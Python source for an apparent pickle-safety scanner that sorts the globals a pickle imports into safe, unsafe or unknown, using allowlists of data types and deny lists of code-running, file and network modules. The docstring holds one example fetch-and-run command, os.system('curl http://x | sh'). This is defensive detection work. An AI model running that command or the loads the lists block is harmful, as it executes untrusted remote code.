"""The safety verdict on pickles read by pickle_vm: would loading them run code?

- `safe`: every global the pickles import is on an allowlist of names that only rebuild data
  (containers, scalars, datetime, numpy arrays, torch tensors and storages, pandas frames),
  nothing mutates an imported object, and every pickle was read to its STOP.
- `unsafe`: a global belongs to a module or name that can run code or touch the system
  (os, subprocess, builtins.eval, pickle.loads, operator.attrgetter, ...), an imported object
  is mutated, or a callable computed at load time is built from such a global.
- `unknown`: anything else (user classes, libraries not on the allowlist, truncated input,
  extension codes): loading would import and run code that is not known to be harmless.

Findings name the global and, when it is called, render the call with its arguments
(`os.system('curl http://x | sh')`). Arguments are rendered from the description: short,
bounded, never evaluated.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

from .pickle_model import Call, ExtensionRef, Global, PersistentRef
from .pickle_vm import (
    OutOfBandBuffer,
    PickleError,
    Skipped,
    Truncated,
    Unpickled,
    looks_like_pickle,
    read_pickles,
)

__all__ = ["Safety", "assess", "classify", "render", "render_call"]

_BUILTINS = ("builtins", "__builtin__")


def _words(text: str) -> list[str]:
    return text.split()


SAFE_GLOBALS = frozenset(
    f"builtins.{name}"
    for name in _words(
        "set frozenset list dict tuple bytearray bytes complex slice range int float str "
        "bool object Ellipsis NotImplemented"
    )
) | frozenset(
    {
        "collections.OrderedDict",
        "collections.defaultdict",  # its factory is itself an import, checked like any other
        "collections.deque",
        "collections.Counter",
        "copyreg._reconstructor",  # its class argument is an import, checked like any other
        "copy_reg._reconstructor",
        "_codecs.encode",
        "datetime.datetime",
        "datetime.date",
        "datetime.time",
        "datetime.timedelta",
        "datetime.timezone",
        "decimal.Decimal",
        "fractions.Fraction",
        "uuid.UUID",
        "pathlib.Path",
        "pathlib.PosixPath",
        "pathlib.WindowsPath",
        "pathlib.PurePath",
        "pathlib.PurePosixPath",
        "pathlib.PureWindowsPath",
        # numpy arrays, dtypes and scalars (numpy 1 and 2 module names)
        "numpy.ndarray",
        "numpy.dtype",
        "numpy.core.multiarray._reconstruct",
        "numpy._core.multiarray._reconstruct",
        "numpy.core.multiarray.scalar",
        "numpy._core.multiarray.scalar",
        "numpy.core.numeric._frombuffer",
        "numpy._core.numeric._frombuffer",
        "numpy.ma.core._mareconstruct",
        "numpy.ma.core.MaskedArray",
        "numpy.random._pickle.__randomstate_ctor",
        "numpy.random._pickle.__bit_generator_ctor",
        "numpy.random._pickle.__generator_ctor",
        # torch tensors, parameters and storages
        "torch._utils._rebuild_tensor",
        "torch._utils._rebuild_tensor_v2",
        "torch._utils._rebuild_tensor_v3",
        "torch._utils._rebuild_parameter",
        "torch._utils._rebuild_parameter_with_state",
        "torch._utils._rebuild_qtensor",
        "torch._utils._rebuild_sparse_tensor",
        "torch._utils._rebuild_meta_tensor_no_storage",
        "torch._tensor._rebuild_from_type_v2",
        "torch.storage.UntypedStorage",
        "torch.storage.TypedStorage",
        "torch.storage._TypedStorage",
        "torch.Size",
        "torch.device",
        "torch.nn.parameter.Parameter",
        # pandas frames, series, indexes and the arrays under them: these rebuild data and
        # set attributes on the new object only (documented in docs/security.md)
        "pandas.DataFrame",
        "pandas.Series",
        "pandas.Index",
        "pandas.RangeIndex",
        "pandas.MultiIndex",
        "pandas.DatetimeIndex",
        "pandas.CategoricalIndex",
        "pandas.Categorical",
        "pandas.CategoricalDtype",
        "pandas.StringDtype",
        "pandas.Timestamp",
        "pandas.Timedelta",
        "pandas.arrays.ArrowStringArray",
        "pandas.arrays.StringArray",
        "pandas.arrays.DatetimeArray",
        "pandas.arrays.TimedeltaArray",
        "pandas.core.frame.DataFrame",
        "pandas.core.series.Series",
        "pandas.core.internals.managers.BlockManager",
        "pandas.core.internals.managers.SingleBlockManager",
        "pandas.core.internals.blocks.new_block",
        "pandas._libs.internals._unpickle_block",
        "pandas.core.indexes.base._new_Index",
        "pandas.core.indexes.base.Index",
        "pandas.core.indexes.range.RangeIndex",
        "pandas.core.indexes.multi.MultiIndex",
        "pandas.core.indexes.datetimes._new_DatetimeIndex",
        "pandas.core.indexes.datetimes.DatetimeIndex",
        "pandas.core.indexes.category.CategoricalIndex",
        "pandas.core.arrays.categorical.Categorical",
        "pandas.core.arrays.datetimes.DatetimeArray",
        "pandas.core.arrays.string_.StringDtype",
        "pandas.core.arrays.string_.StringArray",
        "pandas.core.arrays.string_arrow.ArrowStringArray",
        "pandas.core.dtypes.dtypes.CategoricalDtype",
        "pandas.core.dtypes.dtypes.DatetimeTZDtype",
        "pandas._libs.arrays.__pyx_unpickle_NDArrayBacked",
        "pandas._libs.tslibs.timestamps._unpickle_timestamp",
        "pandas._libs.tslibs.timedeltas._timedelta_unpickle",
        "pandas._libs.tslibs.nattype.__nat_unpickle",
        "pyarrow.lib._restore_array",
        "pyarrow.lib.py_buffer",
        "pyarrow.lib.type_for_alias",
    }
)
_TORCH_DTYPES = frozenset(
    _words(
        "float16 float32 float64 bfloat16 half float double complex32 complex64 complex128 "
        "cfloat cdouble chalf uint8 uint16 uint32 uint64 int8 int16 int32 int64 short int long "
        "bool qint8 quint8 qint32 quint4x2 float8_e4m3fn float8_e5m2 float8_e4m3fnuz "
        "float8_e5m2fnuz strided sparse_coo sparse_csr sparse_csc sparse_bsr sparse_bsc "
        "_mkldnn contiguous_format channels_last channels_last_3d preserve_format "
        "per_tensor_affine per_channel_affine"
    )
)
_PANDAS_OFFSETS = "pandas._libs.tslibs.offsets."

# Modules (and everything under them) that run code or touch the system.
DANGEROUS_MODULES: dict[str, str] = {
    **dict.fromkeys(
        ("os", "posix", "nt", "_posixsubprocess", "subprocess", "pty", "commands", "popen2"),
        "runs programs or touches the operating system",
    ),
    **dict.fromkeys(
        ("sys", "gc", "_thread", "atexit", "signal", "resource", "faulthandler", "_testcapi"),
        "reaches into the interpreter or the process",
    ),
    **dict.fromkeys(
        (
            "importlib",
            "imp",
            "_imp",
            "pkgutil",
            "zipimport",
            "_frozen_importlib",
            "_frozen_importlib_external",
            "runpy",
            "site",
            "pkg_resources",
            "distutils",
            "setuptools",
            "ensurepip",
            "pip",
            "venv",
        ),
        "imports or runs arbitrary modules",
    ),
    **dict.fromkeys(
        (
            "code",
            "codeop",
            "timeit",
            "pdb",
            "bdb",
            "cProfile",
            "profile",
            "trace",
            "doctest",
            "idlelib",
            "pydoc",
            "types",
            "ctypes",
            "_ctypes",
            "cffi",
            "numpy.f2py",
            "numpy.distutils",
            "numpy.testing",
            "numpy.ctypeslib",
            "IPython",
            "torch.jit",
            "torch.fx",
            "torch._inductor",
            "torch._dynamo",
            "torch.utils.cpp_extension",
            "torch.package",
            "_xxsubinterpreters",
            "logging.config",
        ),
        "compiles or runs Python code",
    ),
    **dict.fromkeys(
        (
            "pickle",
            "_pickle",
            "cPickle",
            "pickletools",
            "marshal",
            "shelve",
            "dill",
            "cloudpickle",
            "joblib",
            "jsonpickle",
            "torch.serialization",
            "torch.hub",
            "yaml",
        ),
        "loads another serialized object, which can run code",
    ),
    **dict.fromkeys(
        (
            "multiprocessing",
            "_multiprocessing",
            "concurrent",
            "asyncio",
            "torch.multiprocessing",
            "torch.distributed",
            "sh",
            "plumbum",
            "pexpect",
            "paramiko",
            "fabric",
            "invoke",
        ),
        "starts processes or remote commands",
    ),
    **dict.fromkeys(
        (
            "socket",
            "_socket",
            "ssl",
            "socketserver",
            "http",
            "urllib",
            "urllib2",
            "urllib3",
            "requests",
            "httpx",
            "ftplib",
            "smtplib",
            "telnetlib",
            "xmlrpc",
            "webbrowser",
            "antigravity",
        ),
        "opens network connections or a browser",
    ),
    **dict.fromkeys(
        (
            "shutil",
            "tempfile",
            "io",
            "_io",
            "fileinput",
            "zipfile",
            "tarfile",
            "sqlite3",
            "dbm",
            "mmap",
            "platform",
            "_winapi",
            "winreg",
            "_winreg",
            "msvcrt",
            "pandas.io",
        ),
        "reads or writes files",
    ),
}
# Single names elsewhere that run code, call attributes or load files.
DANGEROUS_NAMES: dict[str, str] = {
    **{
        f"builtins.{n}": "evaluates code or reaches any attribute or file"
        for n in _words(
            "eval exec compile open __import__ getattr setattr delattr globals locals vars "
            "input breakpoint help exit quit __build_class__ apply execfile file reload "
            "__loader__ __spec__"
        )
    },
    **{
        f"{m}.{n}": "calls any attribute or method of its argument"
        for m in ("operator", "_operator")
        for n in ("attrgetter", "methodcaller", "call")
    },
    "copyreg.add_extension": "changes how later pickles are read",
    "copy_reg.add_extension": "changes how later pickles are read",
    "codecs.open": "reads or writes files",
    "numpy.load": "loads a file, pickles included",
    "numpy.loads": "loads another pickle, which can run code",
    "numpy.lib.npyio.load": "loads a file, pickles included",
    "numpy.fromfile": "reads files",
    "numpy.memmap": "maps files",
    "numpy.save": "writes files",
    "numpy.savetxt": "writes files",
    "numpy.loadtxt": "reads files",
    "numpy.genfromtxt": "reads files",
    "torch.load": "loads another pickle, which can run code",
    "torch.storage._load_from_bytes": "loads another pickle, which can run code",
    "torch.ops.load_library": "loads native code",
    "torch.classes.load_library": "loads native code",
    "pandas.read_pickle": "loads another pickle, which can run code",
    "pandas.eval": "evaluates expressions",
    "pandas.core.computation.eval.eval": "evaluates expressions",
}
# Calls whose first argument is another pickle: it is read and assessed too.
DESERIALIZERS = frozenset(
    {
        "pickle.loads",
        "pickle._loads",
        "_pickle.loads",
        "cPickle.loads",
        "dill.loads",
        "dill._dill.loads",
        "cloudpickle.loads",
        "numpy.loads",
        "torch.storage._load_from_bytes",
        "joblib.load",
        "pickle.load",
        "_pickle.load",
        "torch.load",
        "pandas.read_pickle",
    }
)
# Attribute names that make a dotted STACK_GLOBAL name (module "x", name "a.b.c") dangerous.
_DANGEROUS_ATTRIBUTES = frozenset(
    _words(
        "system popen popen2 spawn spawnl spawnv execv execve execl fork forkpty kill remove "
        "unlink rmdir rmtree rename chmod chown putenv environ open write_text write_bytes "
        "run call check_call check_output Popen getoutput eval exec compile __import__ "
        "getattr setattr import_module load loads modules"
    )
)
_MAX_FINDINGS = 40
_CALLS_PER_GLOBAL = 3
_NESTED_DEPTH = 3


@dataclass
class Safety:
    verdict: str  # "safe" | "unsafe" | "unknown"
    findings: list[dict[str, Any]] = field(default_factory=list)


def classify(item: Global) -> tuple[str, str]:
    """("safe" | "danger" | "warning", why) for one imported global."""
    module, name = item.module, item.name
    if module in _BUILTINS:
        module = "builtins"
    qualname = f"{module}.{name}"
    if _is_safe(module, name, qualname):
        return "safe", "rebuilds data"
    if module == "?" or name == "?":
        return "warning", "an import built from values that are not strings (CPython refuses it)"
    parts = qualname.split(".")
    for end in range(len(parts), 0, -1):
        prefix = ".".join(parts[:end])
        if prefix in DANGEROUS_NAMES:
            return "danger", DANGEROUS_NAMES[prefix]
        if prefix in DANGEROUS_MODULES:
            return "danger", DANGEROUS_MODULES[prefix]
    if "." in name:
        attributes = name.split(".")
        if any(a.startswith("__") and a.endswith("__") for a in attributes):
            return "danger", "reaches into object internals through a dotted name"
        if any(a in _DANGEROUS_ATTRIBUTES or a in DANGEROUS_MODULES for a in attributes):
            return "danger", "reaches a dangerous attribute through a dotted name"
    return "warning", "not known to be harmless: loading imports and runs its code"


def _is_safe(module: str, name: str, qualname: str) -> bool:
    if qualname in SAFE_GLOBALS:
        return True
    if module == "torch":
        return name in _TORCH_DTYPES or (name.endswith("Storage") and name.isidentifier())
    if module in ("numpy.dtypes", "numpy.core.dtypes", "numpy._core.dtypes"):
        return name.endswith("DType") and name.isidentifier()
    return qualname.startswith(_PANDAS_OFFSETS) and name.isidentifier()


def assess(pickles: Iterable[Unpickled], *, truncated: bool = False) -> Safety:
    """The verdict on every pickle of one file. `truncated`: the input was cut short (byte
    budget), so whatever follows could import anything."""
    findings = _assess(list(pickles), truncated, 0)
    findings.sort(key=lambda f: f["severity"] != "danger")
    if any(f["severity"] == "danger" for f in findings):
        verdict = "unsafe"
    elif findings:
        verdict = "unknown"
    else:
        verdict = "safe"
    return Safety(verdict, findings[:_MAX_FINDINGS])


def _assess(pickles: list[Unpickled], truncated: bool, depth: int) -> list[dict[str, Any]]:
    findings: list[dict[str, Any]] = []
    seen: set[tuple[str, str | None]] = set()
    calls_per_global: dict[str, int] = {}

    def add(severity: str, qualname: str | None, call: str | None, message: str) -> None:
        key = (qualname or message, call)
        if key in seen or len(findings) >= _MAX_FINDINGS * 2:
            return
        seen.add(key)
        findings.append(
            {"severity": severity, "global": qualname, "call": call, "message": message}
        )

    for one in pickles:
        called: set[str] = set()
        for call in one.calls:
            func = call.func
            if isinstance(func, Global):
                severity, why = classify(func)
                qualname = func.qualname
                called.add(qualname)
                if severity == "safe":
                    continue
                wrapped = _dangerous_inside(call.args, call.kwargs)
                if severity == "warning" and wrapped:
                    severity, why = (
                        "danger",
                        f"it is given {wrapped}, which {classify_why(wrapped)}",
                    )
                count = calls_per_global.get(qualname, 0)
                if count >= _CALLS_PER_GLOBAL:
                    continue
                calls_per_global[qualname] = count + 1
                rendered = render_call(call)
                verb = "instantiate" if call.opcode.startswith("NEWOBJ") else "call"
                add(severity, qualname, rendered, f"would {verb} {rendered}: {why}")
                if qualname in DESERIALIZERS and depth < _NESTED_DEPTH:
                    for inner in _nested(call, qualname, depth):
                        add(inner["severity"], inner["global"], inner["call"], inner["message"])
            else:
                rendered = render_call(call)
                danger = _dangerous_inside((func,), None)
                if danger:
                    add(
                        "danger",
                        danger,
                        rendered,
                        f"would call a callable computed at load time, {rendered}, built "
                        f"with {danger}, which {classify_why(danger)}",
                    )
                else:
                    add(
                        "warning",
                        None,
                        rendered,
                        f"would call a callable computed at load time: {rendered}",
                    )
        for item in dict.fromkeys(one.globals):
            if item.qualname in called:
                continue
            severity, why = classify(item)
            if severity != "safe":
                add(severity, item.qualname, None, f"imports {item.qualname}: {why}")
        for opcode, target in one.mutations:
            name = target.qualname if isinstance(target, Global) else render(target)
            add(
                "danger",
                name,
                None,
                f"{opcode} changes the imported {name} itself (tampers with the loading process)",
            )
        for ref in dict.fromkeys(one.extensions):
            add(
                "warning",
                None,
                None,
                f"uses extension code {ref.code}: what it imports depends on the loading "
                "process's copyreg registry",
            )
        if not one.complete:
            add(
                "warning",
                None,
                None,
                f"the pickle starting at byte {one.start} was only read in part: the rest "
                "could import anything",
            )
    if truncated and not any(f["global"] is None and "only read" in f["message"] for f in findings):
        add("warning", None, None, "the file was only read in part: the rest could import anything")
    return findings


def classify_why(qualname: str) -> str:
    module, _, name = qualname.rpartition(".")
    return classify(Global(module, name))[1]


def _dangerous_inside(args: Any, kwargs: Any) -> str | None:
    """The qualname of a dangerous global found inside (bounded walk), if any."""
    todo: list[tuple[Any, int]] = [(args, 0), (kwargs, 0)]
    seen: set[int] = set()
    budget = 2000
    while todo and budget > 0:
        item, depth = todo.pop()
        budget -= 1
        if id(item) in seen or depth > 8:
            continue
        seen.add(id(item))
        if isinstance(item, Global):
            if classify(item)[0] == "danger":
                return item.qualname
        elif isinstance(item, Call):
            todo.append((item.func, depth + 1))
            todo.extend((a, depth + 1) for a in item.args)
            if item.kwargs:
                todo.extend((v, depth + 1) for v in item.kwargs.values())
        elif isinstance(item, (tuple, list, set, frozenset)):
            todo.extend((a, depth + 1) for a in list(item)[:200])
        elif isinstance(item, dict):
            todo.extend((v, depth + 1) for v in list(item.values())[:200])
            todo.extend((k, depth + 1) for k in list(item)[:200])
        elif isinstance(item, PersistentRef):
            todo.append((item.pid, depth + 1))
    return None


def _nested(call: Call, qualname: str, depth: int) -> list[dict[str, Any]]:
    """Findings of the pickle handed to a deserializer (pickle.loads(b'...'))."""
    raw = _as_bytes(call.args[0]) if call.args else None
    if raw is None or not looks_like_pickle(raw[:4096], whole=len(raw) <= 4096):
        return []
    try:
        inner = read_pickles(raw, max_ops=1_000_000)
    except PickleError as error:
        inner = [*error.pickles, *([error.partial] if error.partial else [])]
    prefix = f"inside the pickle given to {qualname}: "
    return [{**f, "message": prefix + f["message"]} for f in _assess(inner, False, depth + 1)]


def _as_bytes(value: Any) -> bytes | None:
    if isinstance(value, (bytes, bytearray, memoryview)):
        return bytes(value)
    if isinstance(value, str):
        return value.encode("latin-1", "replace")
    if isinstance(value, Call) and isinstance(value.func, Global) and value.args:
        qualname = value.func.qualname
        if qualname == "_codecs.encode" and isinstance(value.args[0], str):
            return value.args[0].encode("latin-1", "replace")
        if qualname in ("io.BytesIO", "_io.BytesIO"):
            return _as_bytes(value.args[0])
    return None


# -- rendering -----------------------------------------------------------------------------

_RENDER_LIMIT = 120


def render_call(call: Call, limit: int = _RENDER_LIMIT) -> str:
    """`module.name(arg, ..., key=value)`, short and bounded."""
    return _clip(_render(call, 0, set(), limit + 1), limit)


def render(value: Any, limit: int = _RENDER_LIMIT) -> str:
    """A short repr-like rendering of any description value."""
    return _clip(_render(value, 0, set(), limit + 1), limit)


def _clip(text: str, limit: int) -> str:
    return text if len(text) <= limit else text[: limit - 1] + "…"


def _render(value: Any, depth: int, active: set[int], room: int) -> str:
    if room <= 0:
        return "…"
    if isinstance(value, str):
        return repr(value[:room])
    if isinstance(value, (bytes, bytearray, memoryview)):
        return repr(bytes(value[:room]))
    if isinstance(value, bool) or value is None or isinstance(value, float):
        return repr(value)
    if isinstance(value, int):
        return repr(value) if value.bit_length() <= 128 else f"<int of {value.bit_length()} bits>"
    if isinstance(value, Global):
        return value.qualname
    if isinstance(value, ExtensionRef):
        return f"<extension {value.code}>"
    if isinstance(value, Truncated):
        return f"<{value.kind} cut off: {value.available} of {value.declared} bytes>"
    if isinstance(value, Skipped):
        return f"<{value.kind} of {value.length} bytes, not read>"
    if isinstance(value, OutOfBandBuffer):
        return f"<out-of-band buffer {value.index}>"
    if depth > 4 or id(value) in active:
        return "…"
    active.add(id(value))
    try:
        if isinstance(value, Call):
            func = _render(value.func, depth + 1, active, room)
            parts = list(value.args)
            named = list((value.kwargs or {}).items())
            return f"{func}({_join(parts, named, depth, active, room - len(func))})"
        if isinstance(value, PersistentRef):
            return f"persistent_id({_render(value.pid, depth + 1, active, room)})"
        if isinstance(value, tuple):
            inner = _join(list(value), [], depth, active, room)
            return f"({inner},)" if len(value) == 1 else f"({inner})"
        if isinstance(value, list):
            return f"[{_join(value, [], depth, active, room)}]"
        if isinstance(value, dict):
            return "{" + _join([], list(value.items()), depth, active, room, ": ") + "}"
        if isinstance(value, (set, frozenset)):
            inner = _join(list(value)[:20], [], depth, active, room)
            return f"{{{inner}}}" if isinstance(value, set) else f"frozenset({{{inner}}})"
        return f"<{type(value).__name__}>"
    finally:
        active.discard(id(value))


def _join(
    items: list[Any],
    named: list[tuple[Any, Any]],
    depth: int,
    active: set[int],
    room: int,
    sep: str = "=",
) -> str:
    out: list[str] = []
    used = 0
    for item in items[:20]:
        if used > room:
            out.append("…")
            return ", ".join(out)
        text = _render(item, depth + 1, active, room - used)
        out.append(text)
        used += len(text) + 2
    for key, value in named[:20]:
        if used > room:
            out.append("…")
            return ", ".join(out)
        left = key if sep == "=" and isinstance(key, str) else _render(key, depth + 1, active, 40)
        text = f"{left}{sep}{_render(value, depth + 1, active, room - used)}"
        out.append(text)
        used += len(text) + 2
    if len(items) > 20 or len(named) > 20:
        out.append("…")
    return ", ".join(out)
